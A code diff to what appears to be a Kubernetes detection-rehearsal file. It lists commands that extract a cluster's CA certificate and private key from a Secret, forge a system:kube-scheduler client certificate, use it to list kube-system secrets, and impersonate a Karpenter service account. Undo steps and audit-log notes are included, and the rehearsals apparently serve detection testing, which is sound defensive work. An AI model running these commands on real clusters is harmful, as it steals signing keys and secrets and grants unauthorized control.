@@ -68,11 +68,12 @@ export const cluster: Rehearsals = {
       'openssl req -new -newkey rsa:2048 -nodes -keyout rehearsal.key -subj /CN=system:kube-scheduler -out rehearsal.csr',
       'kubectl -n "$FLEET" get secret "$(kubectl -n "$FLEET" get clusters -o name | head -1 | cut -d/ -f2)-ca" -o json | jq -r \'.data["tls.crt"] | @base64d\' > ca.crt',
       'kubectl -n "$FLEET" get secret "$(kubectl -n "$FLEET" get clusters -o name | head -1 | cut -d/ -f2)-ca" -o json | jq -r \'.data["tls.key"] | @base64d\' > ca.key',
+      'WORKLOAD_SERVER=$(kubectl -n "$FLEET" get clusters -o jsonpath="https://{.items[0].spec.controlPlaneEndpoint.host}:{.items[0].spec.controlPlaneEndpoint.port}")',
       'openssl x509 -req -in rehearsal.csr -CA ca.crt -CAkey ca.key -days 1 -out rehearsal.crt',
       'curl --cacert ca.crt --cert rehearsal.crt --key rehearsal.key "$WORKLOAD_SERVER/api/v1/namespaces/kube-system/secrets" || true',
     ],
     undo: ['rm rehearsal.key rehearsal.csr rehearsal.crt ca.crt ca.key'],
-    note: 'WORKLOAD_SERVER is the address of the API server of that Cluster, whose audit log is watched. The refusal is the record. Reading the key is a finding too.',
+    note: 'Of the first Cluster there, whose audit log is watched. The refusal is the record. Reading the key is a finding too.',
   },
   'kubernetes/controller-or-node-impersonated': {
     steps: ['kubectl get nodes --as=system:serviceaccount:kube-system:karpenter'],
